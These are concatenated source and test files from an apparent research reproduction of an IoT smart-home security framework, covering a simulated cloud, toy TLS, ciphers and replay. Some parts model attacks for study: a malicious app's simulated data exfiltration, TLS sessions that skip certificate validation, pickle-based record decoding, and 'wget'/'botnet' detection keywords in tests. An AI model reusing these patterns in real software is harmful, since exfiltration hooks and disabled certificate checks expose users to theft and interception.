            # rules mention, regardless of what it asked for.
            granted = set()
            for rule in app.rules:
                handler = self._handlers.get(rule.target_device)
                if handler is not None:
                    granted |= device_capabilities(handler.device_type)
                trigger = self._handlers.get(rule.trigger_device)
                if trigger is not None:
                    granted |= device_capabilities(trigger.device_type)
            app.granted_capabilities = granted or set(app.requested_capabilities)
        else:
            app.granted_capabilities = set(app.requested_capabilities)
        # Subscribe the app to its rules' triggers.
        for rule in app.rules:
            self.bus.subscribe(Subscription(
                subscriber=app.name,
                handler=lambda event, a=app: self._run_app(a, event),
                device_id=rule.trigger_device,
                attribute=rule.trigger_attribute,
            ))

    def subscribe_app_to_all(self, app_name: str) -> None:
        """Broad subscription — what a data-hungry app asks for."""
        app = self._apps[app_name]
        self.bus.subscribe(Subscription(
            subscriber=app.name,
            handler=lambda event, a=app: self._run_app(a, event),
        ))

    def installed_apps(self) -> List[SmartApp]:
        return list(self._apps.values())

    def _run_app(self, app: SmartApp, event: CloudEvent) -> None:
        for request in app.handle_event(event):
            self._execute_command(request)
        if app.exfiltrate_to is not None and app.events_seen:
            self._exfiltrate(app, app.events_seen[-1])

    def _execute_command(self, request: CommandRequest) -> bool:
        handler = self._handlers.get(request.device_id)
        if handler is None:
            self.denied_commands.append(request)
            return False
        app = self._apps.get(request.app)
        if app is not None:
            try:
                needed = required_capability(handler.device_type, request.command)
            except KeyError:
                self.denied_commands.append(request)
                return False
            if needed not in app.granted_capabilities:
                self.denied_commands.append(request)
                return False
        return self.send_command(request.device_id, request.command)

    def send_command(self, device_id: str, command: str) -> bool:
        """Push a command down the device's persistent connection."""
        handler = self._handlers.get(device_id)
        if handler is None or handler.last_packet is None:
            return False
        packet = handler.last_packet.reply_template(
            size_bytes=90,
            payload={"kind": "command", "command": command},
        )
        packet.app_protocol = "mqtts"
        packet.encrypted = handler.last_packet.encrypted
        return self.send(packet)

    def _exfiltrate(self, app: SmartApp, event: CloudEvent) -> None:
        """A malicious app's hidden service shipping event data out."""
        packet = Packet(
            src="", dst=app.exfiltrate_to, sport=0, dport=443,
            protocol="tcp", app_protocol="https", size_bytes=300,
            payload={"stolen": (event.device_id, event.attribute, event.value)},
            encrypted=True,
        )
        self.exfiltration_packets.append(packet)
        self.send(packet)

    # -- OTA -----------------------------------------------------------------
    def push_update(self, campaign_id: str, device_id: str) -> bool:
        handler = self._handlers.get(device_id)
        if handler is None or handler.last_packet is None:
            return False
        image = self.ota.record_push(campaign_id, device_id)
        packet = handler.last_packet.reply_template(
            size_bytes=240 + image.size_bytes,
            payload={"kind": "ota", "campaign": campaign_id, "image": image},
        )
        packet.app_protocol = "ota"
        packet.encrypted = handler.last_packet.encrypted
        return self.send(packet)

    # -- REST API ----------------------------------------------------------------
    def _register_routes(self) -> None:
        self.api.add_route("GET", "/devices", Scope.READ_DEVICES,
                           self._route_list_devices)
        self.api.add_route("POST", "/devices/command", Scope.CONTROL_DEVICES,
                           self._route_command)
        self.api.add_route("GET", "/apps", Scope.MANAGE_APPS,
                           self._route_list_apps)
        self.api.add_route("POST", "/ota/push", Scope.PUSH_UPDATES,
                           self._route_ota_push)
        self.api.add_route("GET", "/health", None, self._route_health)

    def _route_health(self, request, token):
        # A bound method, not a lambda: route tables must stay picklable
        # for the home-prototype clone path (repro.scenarios.prototype).
        return {"status": "ok"}

    def _route_list_devices(self, request, token):
        return [
            {"device_id": h.device_id, "type": h.device_type,
             "state": h.shadow_state}
            for h in self._handlers.values()
        ]

    def _route_command(self, request, token):
        body = request.body or {}
        device_id, command = body.get("device_id"), body.get("command")
        if not device_id or not command:
            raise ApiError(400, "device_id and command required")
        if not self.send_command(device_id, command):
            raise ApiError(404, f"device {device_id} unreachable")
        return {"sent": True}

    def _route_list_apps(self, request, token):
        return [
            {"name": a.name,
             "capabilities": sorted(c.value for c in a.granted_capabilities)}
            for a in self._apps.values()
        ]

    def _route_ota_push(self, request, token):
        body = request.body or {}
        campaign, device_id = body.get("campaign"), body.get("device_id")
        if not campaign or not device_id:
            raise ApiError(400, "campaign and device_id required")
        if not self.push_update(campaign, device_id):
            raise ApiError(404, "push failed")
        return {"pushed": True}

    # -- audits ----------------------------------------------------------------
    def overprivilege_report(self) -> Dict[str, List[str]]:
        """Per-app capabilities granted but never needed by its rules."""

        def capability_of(device_id: str, command: str) -> Capability:
            handler = self._handlers.get(device_id)
            if handler is None:
                raise KeyError(device_id)
            return required_capability(handler.device_type, command)

        report = {}
        for app in self._apps.values():
            used = app.used_capabilities(capability_of)
            excess = app.granted_capabilities - used
            if excess:
                report[app.name] = sorted(c.value for c in excess)
        return report
