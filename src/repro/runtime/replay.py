"""Time-travel replay: re-execute a journaled run and verify it.

``python -m repro replay <journal> [--until-alert N]`` loads the
journal's ``run-start`` record (which embeds the full canonical spec),
re-executes the spec through the same supervised runtime into a scratch
journal, and compares the regenerated alert stream — content *and*
global sequence — against the recorded one with
:func:`~repro.server.store.canonical_json`.  Because every home is a
deterministic function of the spec, replay is re-execution, not tape
playback: it exercises the entire engine and fails loudly on any
divergence (a tampered journal, a non-deterministic regression).

``--until-alert N`` stops the re-execution at the first epoch boundary
at or after the Nth recorded alert — time travel to just past the
moment an alert fired, with everything before it reproduced exactly.
"""

from __future__ import annotations

import os
import tempfile
from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Union

from repro.runtime.journal import Journal, JournalError, read_journal


class ReplayError(RuntimeError):
    """The journal cannot be replayed (missing/invalid envelope,
    out-of-range ``--until-alert``)."""


class _ReplayStop(Exception):
    """Internal: raised from the on_epoch hook once enough alerts have
    been regenerated (the --until-alert cutoff)."""


@dataclass
class ReplayReport:
    """Outcome of one replay: the regenerated alerts and the diff."""

    journal_path: str
    spec_name: str
    engine: str
    recorded_alerts: int            # alert records in the source journal
    target_alerts: int              # how many replay had to reproduce
    replayed: List[Dict[str, Any]] = field(default_factory=list)
    mismatches: List[str] = field(default_factory=list)
    truncated: bool = False         # source journal ends in `truncated`
    until_alert: Optional[int] = None

    @property
    def ok(self) -> bool:
        return not self.mismatches


def replay_journal(path: Union[str, os.PathLike],
                   until_alert: Optional[int] = None,
                   workers: int = 1) -> ReplayReport:
    """Re-execute the journaled run and verify its alert stream.

    Returns a :class:`ReplayReport`; ``report.ok`` is False when any
    regenerated alert differs from the recorded one (by canonical JSON)
    or the counts diverge.  Raises :class:`ReplayError` for journals
    with no usable ``run-start`` envelope.
    """
    from repro.scenarios.spec import ScenarioSpec, run_spec
    from repro.server.store import canonical_json

    records = read_journal(path)
    if not records or records[0].get("t") != "run-start":
        raise ReplayError(f"{os.fspath(path)}: no run-start record — "
                          "not a run journal")
    envelope = records[0]
    try:
        spec = ScenarioSpec.from_dict(envelope["spec"])
    except Exception as exc:
        raise ReplayError(
            f"{os.fspath(path)}: embedded spec does not load: {exc}"
        ) from exc
    recorded = [r for r in records if r["t"] == "alert"]
    truncated = bool(records) and records[-1]["t"] == "truncated"
    if until_alert is not None:
        if until_alert < 1:
            raise ReplayError("--until-alert must be >= 1")
        if until_alert > len(recorded):
            raise ReplayError(
                f"--until-alert {until_alert} is beyond the journal's "
                f"{len(recorded)} recorded alert(s)")
        recorded = recorded[:until_alert]
    target = len(recorded)

    report = ReplayReport(
        journal_path=os.fspath(path), spec_name=spec.name,
        engine=str(envelope.get("engine", "?")),
        recorded_alerts=len([r for r in records if r["t"] == "alert"]),
        target_alerts=target, truncated=truncated,
        until_alert=until_alert)

    handle, scratch_path = tempfile.mkstemp(prefix="repro-replay-",
                                            suffix=".jsonl")
    os.close(handle)
    try:
        scratch = Journal(scratch_path)

        def on_epoch(home: Optional[int], epoch: int) -> None:
            if until_alert is not None and scratch.alert_records >= target:
                raise _ReplayStop()

        try:
            run_spec(spec, workers=workers, journal=scratch,
                     on_epoch=on_epoch)
        except _ReplayStop:
            pass
        finally:
            scratch.close()
        replayed = [r for r in read_journal(scratch_path)
                    if r["t"] == "alert"]
    finally:
        os.unlink(scratch_path)

    # --until-alert stops at an epoch boundary, which may have carried
    # a few alerts beyond the Nth; the comparison window is exactly the
    # recorded prefix.
    report.replayed = replayed[:target] if until_alert is not None \
        else replayed

    if len(report.replayed) != target:
        report.mismatches.append(
            f"alert count: journal has {target}, replay produced "
            f"{len(report.replayed)}")
    for original, regenerated in zip(recorded, report.replayed):
        if original.get("n") != regenerated.get("n"):
            report.mismatches.append(
                f"alert #{original.get('n')}: sequence number diverged "
                f"(replay says #{regenerated.get('n')})")
            continue
        if canonical_json(original["alert"]) != \
                canonical_json(regenerated["alert"]):
            report.mismatches.append(
                f"alert #{original['n']} (home {original.get('home')}): "
                "content diverged from the recorded run")
    return report
