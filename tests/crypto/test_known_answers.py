"""Known-answer tests against published test vectors."""

import pytest

from repro.crypto.aes import Aes
from repro.crypto.des import Des, TripleDes
from repro.crypto.lea import Lea
from repro.crypto.present import Present
from repro.crypto.rc5 import Rc5
from repro.crypto.tea import Tea, Xtea


def test_aes128_fips197():
    key = bytes(range(16))
    pt = bytes.fromhex("00112233445566778899aabbccddeeff")
    ct = Aes(key).encrypt_block(pt)
    assert ct.hex() == "69c4e0d86a7b0430d8cdb78070b4c55a"
    assert Aes(key).decrypt_block(ct) == pt


def test_aes192_fips197():
    key = bytes(range(24))
    pt = bytes.fromhex("00112233445566778899aabbccddeeff")
    ct = Aes(key).encrypt_block(pt)
    assert ct.hex() == "dda97ca4864cdfe06eaf70a0ec0d7191"


def test_aes256_fips197():
    key = bytes(range(32))
    pt = bytes.fromhex("00112233445566778899aabbccddeeff")
    ct = Aes(key).encrypt_block(pt)
    assert ct.hex() == "8ea2b7ca516745bfeafc49904b496089"


def test_des_classic_worked_example():
    key = bytes.fromhex("133457799BBCDFF1")
    pt = bytes.fromhex("0123456789ABCDEF")
    ct = Des(key).encrypt_block(pt)
    assert ct.hex() == "85e813540f0ab405"
    assert Des(key).decrypt_block(ct) == pt


def test_3des_single_key_equals_des():
    key = bytes.fromhex("133457799BBCDFF1")
    pt = bytes.fromhex("0123456789ABCDEF")
    assert TripleDes(key).encrypt_block(pt) == Des(key).encrypt_block(pt)


def test_present80_all_zero_vector():
    ct = Present(bytes(10)).encrypt_block(bytes(8))
    assert ct.hex() == "5579c1387b228445"


def test_tea_all_zero_vector():
    ct = Tea(bytes(16)).encrypt_block(bytes(8))
    assert ct.hex() == "41ea3a0a94baa940"


def test_xtea_vector():
    key = bytes.fromhex("000102030405060708090a0b0c0d0e0f")
    ct = Xtea(key).encrypt_block(b"ABCDEFGH")
    assert ct.hex() == "497df3d072612cb5"


def test_lea128_vector():
    key = bytes.fromhex("0f1e2d3c4b5a69788796a5b4c3d2e1f0")
    pt = bytes.fromhex("101112131415161718191a1b1c1d1e1f")
    ct = Lea(key).encrypt_block(pt)
    assert ct.hex() == "9fc84e3528c6c6185532c7a704648bfd"
    assert Lea(key).decrypt_block(ct) == pt


def test_rc5_32_12_16_all_zero_vector():
    ct = Rc5(bytes(16)).encrypt_block(bytes(8))
    assert ct.hex() == "21a5dbee154b8f6d"


@pytest.mark.parametrize("key_bytes,expected_rounds", [(16, 10), (24, 12), (32, 14)])
def test_aes_round_counts(key_bytes, expected_rounds):
    assert Aes(bytes(key_bytes)).rounds == expected_rounds
