"""TLS sessions: certificates, end-to-end encryption, searchable tokens.

Models exactly the properties the paper's experiments need:

* real encrypt/decrypt of serialised payloads (CTR over a registry
  cipher), so captured packets genuinely hide contents;
* certificate validation that devices may skip (the MitM attack in
  Table II exploits clients that accept any certificate);
* BlindBox-style *searchable tokens*: a cooperating endpoint attaches
  deterministic keyword tokens next to the ciphertext so a middlebox
  holding the token key can match malware rules without decrypting
  (§IV-B.2).
"""

from __future__ import annotations

import pickle
from dataclasses import dataclass, field
from typing import Any, Iterable, List, Optional

from repro.crypto import CryptoError, CtrMode, get_cached_cipher
from repro.crypto.kdf import derive_key
from repro.crypto.mac import HmacLite


class TlsError(RuntimeError):
    """Handshake or record-layer failure."""


@dataclass(frozen=True)
class Certificate:
    """A toy X.509 stand-in: subject bound to an issuer's signature."""

    subject: str
    issuer: str
    public_id: bytes  # stands in for the public key
    signature: bytes  # issuer's MAC over subject+public_id


class CertificateAuthority:
    """Issues and verifies certificates (the X.509 trust role of §II-B)."""

    def __init__(self, name: str = "root-ca", secret: bytes = b"ca-secret"):
        self.name = name
        self._mac = HmacLite(secret)

    def issue(self, subject: str, public_id: bytes) -> Certificate:
        signature = self._mac.mac(subject.encode() + public_id)
        return Certificate(subject, self.name, public_id, signature)

    def verify(self, certificate: Certificate) -> bool:
        if certificate.issuer != self.name:
            return False
        return self._mac.verify(
            certificate.subject.encode() + certificate.public_id,
            certificate.signature,
        )


@dataclass
class TlsRecord:
    """One encrypted record plus its observable metadata."""

    ciphertext: bytes
    nonce: int
    sni: str = ""                      # server name — observable, like real TLS
    search_tokens: List[bytes] = field(default_factory=list)

    @property
    def wire_size(self) -> int:
        return len(self.ciphertext) + 24 + 16 * len(self.search_tokens)


class TlsSession:
    """An established session between two endpoints.

    ``validate_peer=False`` models the Table II devices with broken
    certificate checking: handshake succeeds against any certificate,
    which is what lets the MitM adversary splice itself in.
    """

    def __init__(self, master_secret: bytes, server_name: str,
                 cipher_name: str = "AES",
                 token_key: Optional[bytes] = None):
        self.server_name = server_name
        self.cipher_name = cipher_name
        key_bits = 128 if cipher_name.lower() in ("aes", "lea", "seed") else None
        key_len = (key_bits or 128) // 8
        session_key = derive_key(master_secret, f"tls:{server_name}", key_len)
        try:
            # Cached: re-handshakes with the same derived session key skip
            # the key schedule (the mode itself holds no record state).
            self._mode = CtrMode(get_cached_cipher(cipher_name, session_key))
        except CryptoError as exc:  # unsupported key length for this cipher
            raise TlsError(f"cipher {cipher_name} rejected session key") from exc
        self._token_mac = HmacLite(token_key) if token_key else None
        self._nonce = 0

    @classmethod
    def handshake(cls, client_secret: bytes, certificate: Certificate,
                  ca: Optional[CertificateAuthority],
                  validate_peer: bool = True,
                  cipher_name: str = "AES",
                  token_key: Optional[bytes] = None) -> "TlsSession":
        """Client-side handshake; raises TlsError on a bad certificate."""
        if validate_peer:
            if ca is None or not ca.verify(certificate):
                raise TlsError(
                    f"certificate for {certificate.subject!r} failed validation"
                )
        master = derive_key(
            client_secret + certificate.public_id, "tls-master", 32
        )
        return cls(master, certificate.subject, cipher_name, token_key)

    def wrap(self, payload: Any,
             keywords: Iterable[str] = ()) -> TlsRecord:
        """Encrypt ``payload``; attach searchable tokens for ``keywords``."""
        plaintext = pickle.dumps(payload)
        nonce = self._nonce
        self._nonce += 1
        ciphertext = self._mode.encrypt(plaintext, nonce)
        tokens = []
        if self._token_mac is not None:
            tokens = [self._token_mac.mac(k.lower().encode()) for k in keywords]
        return TlsRecord(ciphertext, nonce, sni=self.server_name,
                         search_tokens=tokens)

    def unwrap(self, record: TlsRecord) -> Any:
        try:
            plaintext = self._mode.decrypt(record.ciphertext, record.nonce)
        except CryptoError as exc:
            raise TlsError("record decryption failed") from exc
        try:
            return pickle.loads(plaintext)
        except (pickle.UnpicklingError, EOFError, ValueError, IndexError,
                KeyError, AttributeError, ImportError) as exc:
            # Wrong key or tampered record: the plaintext is garbage
            # bytes and unpickling can fail a dozen different ways.
            raise TlsError("record decryption failed") from exc

    def token_for(self, keyword: str) -> bytes:
        """Token an authorised middlebox would hold for ``keyword``."""
        if self._token_mac is None:
            raise TlsError("session established without searchable tokens")
        return self._token_mac.mac(keyword.lower().encode())
