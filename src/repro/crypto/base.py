"""Block-cipher base class and helpers shared by the cipher suite."""

from __future__ import annotations

from typing import Sequence, Tuple


class CryptoError(ValueError):
    """Base error for the crypto package."""


class KeySizeError(CryptoError):
    """Raised when a key of unsupported length is supplied."""


class BlockSizeError(CryptoError):
    """Raised when plaintext/ciphertext is not block-aligned."""


class BlockCipher:
    """Abstract block cipher.

    Subclasses define class attributes ``name``, ``block_size_bits``,
    ``key_size_bits`` (tuple of supported sizes), ``structure`` (one of
    ``"SPN"``, ``"Feistel"``, ``"GFS"``, ``"ARX"``, ``"hybrid"``) and
    ``rounds_for_key`` mapping key size to round count, and implement
    :meth:`encrypt_block` / :meth:`decrypt_block` on ``bytes`` of exactly
    one block.
    """

    name: str = "abstract"
    block_size_bits: int = 0
    key_size_bits: Tuple[int, ...] = ()
    structure: str = "?"

    def __init__(self, key: bytes):
        if not isinstance(key, (bytes, bytearray)):
            raise CryptoError(f"key must be bytes, got {type(key).__name__}")
        key = bytes(key)
        if len(key) * 8 not in self.key_size_bits:
            raise KeySizeError(
                f"{self.name}: key must be one of {self.key_size_bits} bits, "
                f"got {len(key) * 8}"
            )
        self.key = key
        self._setup(key)

    # -- subclass hooks ----------------------------------------------------
    def _setup(self, key: bytes) -> None:
        """Key schedule; subclasses override."""

    def encrypt_block(self, block: bytes) -> bytes:
        raise NotImplementedError

    def decrypt_block(self, block: bytes) -> bytes:
        raise NotImplementedError

    # -- shared helpers ------------------------------------------------------
    @property
    def block_size(self) -> int:
        """Block size in bytes."""
        return self.block_size_bits // 8

    @property
    def rounds(self) -> int:
        """Round count for the instantiated key size."""
        return self.rounds_for_key_bits(len(self.key) * 8)

    @classmethod
    def rounds_for_key_bits(cls, key_bits: int) -> int:
        """Round count for a given key size; uniform by default."""
        return getattr(cls, "num_rounds", 0)

    def _check_block(self, block: bytes) -> bytes:
        if not isinstance(block, (bytes, bytearray)):
            raise CryptoError(f"block must be bytes, got {type(block).__name__}")
        block = bytes(block)
        if len(block) != self.block_size:
            raise BlockSizeError(
                f"{self.name}: block must be {self.block_size} bytes, "
                f"got {len(block)}"
            )
        return block


def rotl(value: int, shift: int, width: int) -> int:
    """Rotate ``value`` left by ``shift`` within ``width`` bits."""
    shift %= width
    mask = (1 << width) - 1
    return ((value << shift) | (value >> (width - shift))) & mask


def rotr(value: int, shift: int, width: int) -> int:
    """Rotate ``value`` right by ``shift`` within ``width`` bits."""
    return rotl(value, width - (shift % width), width)


def bytes_to_words(data: bytes, word_bytes: int, byteorder: str = "big") -> list:
    """Split ``data`` into integers of ``word_bytes`` each."""
    if len(data) % word_bytes:
        raise CryptoError("data length not a multiple of the word size")
    return [
        int.from_bytes(data[i : i + word_bytes], byteorder)  # noqa: E203
        for i in range(0, len(data), word_bytes)
    ]


def words_to_bytes(words: Sequence[int], word_bytes: int, byteorder: str = "big") -> bytes:
    """Inverse of :func:`bytes_to_words`."""
    return b"".join(int(w).to_bytes(word_bytes, byteorder) for w in words)


def xor_bytes(a: bytes, b: bytes) -> bytes:
    """XOR two equal-length byte strings."""
    if len(a) != len(b):
        raise CryptoError(f"xor length mismatch: {len(a)} vs {len(b)}")
    # One big-int XOR beats a per-byte Python loop for the 8/16-byte
    # blocks every mode pushes through here.
    return (int.from_bytes(a, "big") ^ int.from_bytes(b, "big")).to_bytes(
        len(a), "big")
