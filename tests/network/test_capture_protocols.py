"""Tests for traffic capture, protocol messages, and TLS sessions."""

import pytest

from repro.network import Link, Node, Packet, PacketCapture
from repro.network.protocols import (
    CoapMessage,
    HttpRequest,
    HttpResponse,
    MqttPublish,
    MqttSubscribe,
    TlsSession,
)
from repro.network.protocols.mqtt import topic_matches
from repro.network.protocols.tls import (
    Certificate,
    CertificateAuthority,
    TlsError,
)
from repro.sim import Simulator


class Host(Node):
    def handle_packet(self, packet, interface):
        pass


def test_capture_flow_aggregation():
    sim = Simulator()
    lan = Link(sim, "wifi")
    a, b = Host(sim, "a"), Host(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    cap = PacketCapture(sim)
    lan.add_observer(cap.observe)

    def traffic():
        for _ in range(5):
            a.send(Packet(src="", dst="y", sport=1, dport=2, size_bytes=100))
            yield sim.timeout(1.0)

    sim.process(traffic())
    sim.run()
    assert cap.total_packets == 5
    assert cap.total_bytes == 500
    assert len(cap.flows) == 1
    flow = next(iter(cap.flows.values()))
    assert flow.packets == 5
    assert flow.mean_size == 100
    assert flow.duration == pytest.approx(4.0)
    assert flow.inter_arrival_times() == pytest.approx([1.0] * 4)
    assert flow.rate_bps() == pytest.approx(500 * 8 / 4.0)


def test_capture_hides_encrypted_payloads():
    sim = Simulator()
    lan = Link(sim, "wifi")
    a, b = Host(sim, "a"), Host(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    cap = PacketCapture(sim)
    lan.add_observer(cap.observe)
    a.send(Packet(src="", dst="y", payload={"secret": 1}, encrypted=True))
    a.send(Packet(src="", dst="y", payload={"open": 2}, encrypted=False))
    sim.run()
    payloads = [p.payload for p in cap.packets]
    assert payloads == [None, {"open": 2}]


def test_capture_filter_and_grouping():
    sim = Simulator()
    lan = Link(sim, "wifi")
    a, b = Host(sim, "a"), Host(sim, "b")
    a.add_interface(lan, "x")
    b.add_interface(lan, "y")
    cap = PacketCapture(sim, packet_filter=lambda p: p.dport == 80)
    lan.add_observer(cap.observe)
    a.send(Packet(src="", dst="y", dport=80))
    a.send(Packet(src="", dst="y", dport=443))
    sim.run()
    assert cap.total_packets == 1
    assert set(cap.flows_by_remote()) == {"y"}


class TestHttp:
    def test_validation(self):
        with pytest.raises(ValueError):
            HttpRequest("YEET", "/x")
        with pytest.raises(ValueError):
            HttpRequest("GET", "no-slash")
        with pytest.raises(ValueError):
            HttpResponse(999)

    def test_wire_size_grows_with_body(self):
        small = HttpRequest("GET", "/a")
        big = HttpRequest("POST", "/a", body="x" * 500)
        assert big.wire_size > small.wire_size

    def test_ok_predicate(self):
        assert HttpResponse(204).ok
        assert not HttpResponse(404).ok


class TestMqtt:
    def test_topic_validation(self):
        with pytest.raises(ValueError):
            MqttPublish("", 1)
        with pytest.raises(ValueError):
            MqttPublish("home/+/temp", 1)  # wildcard in publish
        MqttSubscribe("home/+/temp")  # wildcard OK in subscribe

    def test_topic_matching(self):
        assert topic_matches("home/+/temp", "home/kitchen/temp")
        assert not topic_matches("home/+/temp", "home/kitchen/humidity")
        assert topic_matches("home/#", "home/kitchen/temp/raw")
        assert not topic_matches("home/kitchen", "home/kitchen/temp")
        assert topic_matches("a/b", "a/b")

    def test_qos_validation(self):
        with pytest.raises(ValueError):
            MqttPublish("t", 1, qos=3)


class TestCoap:
    def test_request_and_response_codes(self):
        req = CoapMessage("get", uri_path="/sensors/temp")
        assert req.is_request
        resp = CoapMessage("2.05", payload=21.5)
        assert not resp.is_request
        with pytest.raises(ValueError):
            CoapMessage("9.99")
        with pytest.raises(ValueError):
            CoapMessage("FROB")

    def test_message_ids_unique(self):
        ids = {CoapMessage("GET").message_id for _ in range(10)}
        assert len(ids) == 10


class TestTls:
    def setup_method(self):
        self.ca = CertificateAuthority()
        self.cert = self.ca.issue("cloud.example.com", b"cloud-pub")

    def test_handshake_and_roundtrip(self):
        session = TlsSession.handshake(b"client-secret", self.cert, self.ca)
        record = session.wrap({"command": "unlock"})
        assert session.unwrap(record) == {"command": "unlock"}
        assert record.sni == "cloud.example.com"

    def test_bad_certificate_rejected(self):
        fake = Certificate("cloud.example.com", "root-ca", b"evil", b"bad-sig")
        with pytest.raises(TlsError):
            TlsSession.handshake(b"s", fake, self.ca)

    def test_weak_client_accepts_any_certificate(self):
        fake = Certificate("cloud.example.com", "root-ca", b"evil", b"bad-sig")
        session = TlsSession.handshake(b"s", fake, self.ca, validate_peer=False)
        assert session.unwrap(session.wrap("hello")) == "hello"

    def test_tampered_record_fails(self):
        session = TlsSession.handshake(b"s", self.cert, self.ca)
        record = session.wrap({"k": 1})
        record.ciphertext = record.ciphertext[:-1] + bytes(
            [record.ciphertext[-1] ^ 0xFF]
        )
        with pytest.raises(TlsError):
            session.unwrap(record)

    def test_search_tokens_match_middlebox_tokens(self):
        token_key = b"blindbox-key"
        session = TlsSession.handshake(
            b"s", self.cert, self.ca, token_key=token_key
        )
        record = session.wrap("payload", keywords=["wget", "botnet"])
        assert session.token_for("WGET") in record.search_tokens
        assert session.token_for("innocent") not in record.search_tokens

    def test_tokens_require_token_key(self):
        session = TlsSession.handshake(b"s", self.cert, self.ca)
        assert session.wrap("x", keywords=["k"]).search_tokens == []
        with pytest.raises(TlsError):
            session.token_for("k")

    def test_wrong_session_cannot_decrypt(self):
        s1 = TlsSession.handshake(b"secret-1", self.cert, self.ca)
        s2 = TlsSession.handshake(b"secret-2", self.cert, self.ca)
        record = s1.wrap({"k": 1})
        with pytest.raises(TlsError):
            s2.unwrap(record)

    def test_lightweight_cipher_session(self):
        session = TlsSession.handshake(
            b"s", self.cert, self.ca, cipher_name="PRESENT"
        )
        assert session.unwrap(session.wrap([1, 2, 3])) == [1, 2, 3]
