"""The Fig. 2 mapping of IoT protocols onto the TCP/IP stack.

The paper's Figure 2 places common IoT protocols at their TCP/IP layer.
This module is that figure as data, and the F2 benchmark validates it
against live simulated traffic (every packet's protocols must sit at the
layer this map claims).
"""

from __future__ import annotations

from enum import Enum
from typing import Dict, List

from repro import telemetry as _telemetry


class StackLayer(Enum):
    """TCP/IP stack layers as drawn in Fig. 2."""

    APPLICATION = "application"
    TRANSPORT = "transport"
    NETWORK = "network"
    LINK = "link/physical"

    def __lt__(self, other: "StackLayer") -> bool:
        order = [StackLayer.LINK, StackLayer.NETWORK, StackLayer.TRANSPORT,
                 StackLayer.APPLICATION]
        return order.index(self) < order.index(other)


# Protocol -> stack layer, following Fig. 2 of the paper.
_PROTOCOL_LAYERS: Dict[str, StackLayer] = {
    # Application layer
    "http": StackLayer.APPLICATION,
    "https": StackLayer.APPLICATION,
    "coap": StackLayer.APPLICATION,
    "mqtt": StackLayer.APPLICATION,
    "mqtts": StackLayer.APPLICATION,
    "xmpp": StackLayer.APPLICATION,
    "amqp": StackLayer.APPLICATION,
    "dns": StackLayer.APPLICATION,
    "dhcp": StackLayer.APPLICATION,
    "ntp": StackLayer.APPLICATION,
    "telnet": StackLayer.APPLICATION,
    "ssh": StackLayer.APPLICATION,
    "upnp": StackLayer.APPLICATION,
    "ota": StackLayer.APPLICATION,
    # Transport layer (TLS/DTLS ride transport in Fig. 2's drawing)
    "tcp": StackLayer.TRANSPORT,
    "udp": StackLayer.TRANSPORT,
    "tls": StackLayer.TRANSPORT,
    "dtls": StackLayer.TRANSPORT,
    # Network layer
    "ipv4": StackLayer.NETWORK,
    "ipv6": StackLayer.NETWORK,
    "6lowpan": StackLayer.NETWORK,
    "rpl": StackLayer.NETWORK,
    "icmp": StackLayer.NETWORK,
    # Link / physical layer
    "ethernet": StackLayer.LINK,
    "wifi": StackLayer.LINK,
    "802.11": StackLayer.LINK,
    "802.15.4": StackLayer.LINK,
    "zigbee": StackLayer.LINK,
    "z-wave": StackLayer.LINK,
    "ble": StackLayer.LINK,
    "bluetooth": StackLayer.LINK,
    "lte-m": StackLayer.LINK,
    "nb-iot": StackLayer.LINK,
    "lora": StackLayer.LINK,
}


def stack_layer_of(protocol: str) -> StackLayer:
    """Stack layer of a protocol name (case-insensitive)."""
    key = protocol.lower()
    if key not in _PROTOCOL_LAYERS:
        raise KeyError(f"protocol {protocol!r} not in the Fig. 2 map")
    layer = _PROTOCOL_LAYERS[key]
    if _telemetry.ENABLED:
        _telemetry.registry().counter("net.stack.lookups",
                                      layer=layer.value).inc()
    return layer


def protocol_stack_map() -> Dict[StackLayer, List[str]]:
    """The Fig. 2 table: layer -> sorted protocol names."""
    result: Dict[StackLayer, List[str]] = {layer: [] for layer in StackLayer}
    for protocol, layer in _PROTOCOL_LAYERS.items():
        result[layer].append(protocol)
    for names in result.values():
        names.sort()
    return result


def knows_protocol(protocol: str) -> bool:
    return protocol.lower() in _PROTOCOL_LAYERS
