"""XLF Core (paper §IV-D).

The center of Fig. 4: connects and correlates the security functions in
the three layers.  Layer functions push :class:`SecuritySignal`s onto
the :class:`CoreBus`; the :class:`CrossLayerCorrelator` joins signals
across layers into high-confidence :class:`Alert`s; the MKL and
graph-learning modules provide the "most advanced techniques" analyses
the paper assigns to the Core; and :class:`XLF` is the facade that
wires a whole smart-home world together.
"""

from repro.core.signals import Alert, Layer, SecuritySignal, Severity, SignalType
from repro.core.plugin import (
    REGISTRY,
    FunctionRegistry,
    PluginError,
    SecurityFunction,
    load_builtin_functions,
    register,
)
from repro.core.bus import CoreBus
from repro.core.correlator import CorrelationRule, CrossLayerCorrelator
from repro.core.mkl import KernelSpec, MklClassifier
from repro.core.graphlearn import CommunityModel
from repro.core.policy import TokenLifetimePolicy
from repro.core.streaming import (
    OnlineWindow,
    StreamingConfig,
    StreamingDetector,
)


def __getattr__(name):
    # XLF/XlfConfig import the security layer functions, which in turn
    # import repro.core.signals — loading them lazily breaks the cycle
    # when a security module is the first thing imported.
    if name in ("XLF", "XlfConfig"):
        from repro.core import framework

        return getattr(framework, name)
    if name in ("ResponseEngine", "ResponseAction"):
        from repro.core import response

        return getattr(response, name)
    raise AttributeError(f"module {__name__!r} has no attribute {name!r}")

__all__ = [
    "Layer",
    "REGISTRY",
    "FunctionRegistry",
    "PluginError",
    "SecurityFunction",
    "load_builtin_functions",
    "register",
    "SignalType",
    "Severity",
    "SecuritySignal",
    "Alert",
    "CoreBus",
    "CrossLayerCorrelator",
    "CorrelationRule",
    "MklClassifier",
    "KernelSpec",
    "CommunityModel",
    "OnlineWindow",
    "StreamingConfig",
    "StreamingDetector",
    "TokenLifetimePolicy",
    "XLF",
    "XlfConfig",
]
