"""Tests for traffic shaping and the encrypted-traffic monitor."""

import pytest

from repro.network.packet import Packet
from repro.network.protocols.tls import Certificate, CertificateAuthority, TlsSession
from repro.security.network.monitor import (
    DEFAULT_RULES,
    DetectionRule,
    EncryptedTrafficMonitor,
)
from repro.security.network.shaping import ShapingConfig, TrafficShaper
from repro.sim import Simulator


def make_packet(**kwargs):
    defaults = dict(src="10.0.0.2", dst="198.51.100.10", size_bytes=100,
                    src_device="bulb-1")
    defaults.update(kwargs)
    return Packet(**defaults)


class TestShaper:
